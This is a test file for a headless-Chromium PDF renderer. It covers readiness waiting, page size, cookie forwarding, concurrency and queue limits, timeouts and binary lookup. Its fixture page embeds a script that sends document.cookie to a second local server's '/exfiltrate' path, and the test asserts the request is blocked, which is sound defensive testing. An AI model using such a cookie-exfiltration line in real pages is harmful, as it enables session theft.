// The PDF renderer with the real headless Chromium, printing pages of a small local server
// that stands in for the web server: what it waits for, what it refuses to load, how many it
// prints at once, its deadline, and the binary it needs.
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NO_CHROMIUM, PdfExportError, resolveChromium } from './chromium.ts';
import { closePdfBrowser, MAX_PARALLEL_RENDERS, MAX_WAITING_RENDERS, renderPdf } from './pdf.ts';

/** The PDF's text as a reader extracts it. */
async function pdfText(pdf: Buffer): Promise<string> {
  const { getDocument } = await import('pdfjs-dist/legacy/build/pdf.mjs');
  const doc = await getDocument({ data: new Uint8Array(pdf), isEvalSupported: false }).promise;
  const page = await doc.getPage(1);
  return (await page.getTextContent()).items.map((i) => ('str' in i ? i.str : '')).join(' ');
}

const TEMPLATES = { headerTemplate: '<span></span>', footerTemplate: '<span></span>' };

function listen(handler: Parameters<typeof createServer>[1]): Promise<{ server: Server; origin: string }> {
  const server = createServer(handler);
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}` })),
  );
}

let own: { server: Server; origin: string };
let elsewhere: { server: Server; origin: string };
const elsewhereHits: string[] = [];
const cookies: string[] = [];
/** /slow responses not yet sent: the renders that are printing right now. */
const held: ServerResponse[] = [];
let maxHeld = 0;
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

beforeAll(async () => {
  elsewhere = await listen((req, res) => {
    elsewhereHits.push(req.url ?? '');
    res.end('stolen');
  });
  own = await listen((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    cookies.push(req.headers.cookie ?? '');
    res.setHeader('content-type', 'text/html');
    if (url.pathname === '/ready') {
      // The marker appears late, after a timer: a render that did not wait would print "drawing".
      res.end(`<body><p id="t">drawing</p><img src="${elsewhere.origin}/pixel.png">
        <script>fetch('${elsewhere.origin}/exfiltrate?c=' + document.cookie).catch(() => {});
        setTimeout(() => { document.getElementById('t').textContent = 'finished'; document.body.setAttribute('data-report-ready', ''); }, 300);</script></body>`);
    } else if (url.pathname === '/slow') {
      // Held until the test lets it go, so the renders in progress can be counted.
      held.push(res);
      maxHeld = Math.max(maxHeld, held.length);
    } else if (url.pathname === '/failed') {
      res.end('<body data-report-error="Team not found">x</body>');
    } else {
      res.end('<body>never ready</body>');
    }
  });
  process.env.PARALLAX_PDF_ORIGIN = own.origin;
});

afterAll(async () => {
  await closePdfBrowser();
  delete process.env.PARALLAX_PDF_ORIGIN;
  own.server.close();
  elsewhere.server.close();
});

describe('renderPdf in headless Chromium', () => {
  it('prints an A4 PDF once the page marks itself ready, with the cookie, and loads nothing from another origin', async () => {
    const pdf = await renderPdf({ path: '/ready', cookie: 'next-auth.session-token=abc', ...TEMPLATES });
    expect(pdf.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    // A4 is 595 × 842 points.
    expect(pdf.toString('latin1')).toMatch(/\/MediaBox \[0 0 595\.\d+ 842\.\d+\]/);
    expect(await pdfText(pdf)).toContain('finished');
    expect(cookies).toContain('next-auth.session-token=abc');
    expect(elsewhereHits).toEqual([]);
  }, 60_000);

  it(`prints at most ${MAX_PARALLEL_RENDERS} at a time and queues the rest`, async () => {
    const renders = Promise.all(Array.from({ length: 5 }, () => renderPdf({ path: '/slow', cookie: '', ...TEMPLATES })));
    for (let waited = 0; held.length < MAX_PARALLEL_RENDERS && waited < 20_000; waited += 50) await sleep(50);
    // Two pages are loading; the other three wait their turn rather than open a third.
    await sleep(1_000);
    expect(held.length).toBe(MAX_PARALLEL_RENDERS);
    const release = setInterval(() => {
      for (const res of held.splice(0)) res.end('<body data-report-ready>slow</body>');
    }, 50);
    try {
      expect((await renders).every((r) => r.subarray(0, 4).toString('latin1') === '%PDF')).toBe(true);
    } finally {
      clearInterval(release);
    }
    expect(maxHeld).toBe(MAX_PARALLEL_RENDERS);
  }, 60_000);

  it(`refuses at once, with a 503, a render beyond ${MAX_WAITING_RENDERS} waiting`, async () => {
    const total = MAX_PARALLEL_RENDERS + MAX_WAITING_RENDERS + 1;
    const outcomes = await Promise.allSettled(
      Array.from({ length: total }, () => renderPdf({ path: '/never', cookie: '', ...TEMPLATES, timeoutMs: 2_000 })),
    );
    const statuses = outcomes.map((o) => (o.status === 'rejected' ? (o.reason as PdfExportError).status : 200));
    expect(statuses.filter((s) => s === 503)).toHaveLength(1);
    expect(statuses.filter((s) => s === 504)).toHaveLength(total - 1);
  }, 60_000);

  it('gives up at its deadline with a 504 when the page never gets ready', async () => {
    const started = Date.now();
    const error = await renderPdf({ path: '/never', cookie: '', ...TEMPLATES, timeoutMs: 1_500 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(PdfExportError);
    expect((error as PdfExportError).status).toBe(504);
    expect((error as PdfExportError).message).toMatch(/took longer than/);
    expect(Date.now() - started).toBeLessThan(10_000);
  }, 30_000);

  it('fails, rather than printing, a page that reports an error', async () => {
    await expect(renderPdf({ path: '/failed', cookie: '', ...TEMPLATES })).rejects.toThrow('the page reported: Team not found');
  }, 30_000);
});

describe('the Chromium binary', () => {
  it('is PARALLAX_CHROMIUM when it names an executable, and a 503 saying what to do when it names nothing', () => {
    expect(resolveChromium({ PARALLAX_CHROMIUM: process.execPath })).toBe(process.execPath);
    const error = (() => {
      try {
        return resolveChromium({ PARALLAX_CHROMIUM: '/nonexistent/chromium', PATH: process.env.PATH });
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(PdfExportError);
    expect((error as PdfExportError).status).toBe(503);
    expect((error as PdfExportError).message).toContain(NO_CHROMIUM);
    expect((error as PdfExportError).message).not.toContain('/nonexistent');
  });

  it('is found on PATH by its usual names, and a 503 when none is there', () => {
    expect(resolveChromium({ PATH: '/usr/local/bin:/usr/bin:/bin' })).toMatch(/\/(chromium|chromium-browser|google-chrome)$/);
    expect(() => resolveChromium({ PATH: '/nonexistent' })).toThrow(NO_CHROMIUM);
  });

  it('turns a render into a 503 when the configured binary is missing, and the next render works once it is fixed', async () => {
    await closePdfBrowser();
    process.env.PARALLAX_CHROMIUM = '/nonexistent/chromium';
    try {
      const error = await renderPdf({ path: '/ready', cookie: '', ...TEMPLATES }).catch((e: unknown) => e);
      expect((error as PdfExportError).status).toBe(503);
    } finally {
      delete process.env.PARALLAX_CHROMIUM;
    }
    expect((await renderPdf({ path: '/ready', cookie: '', ...TEMPLATES })).subarray(0, 4).toString('latin1')).toBe('%PDF');
  }, 60_000);
});
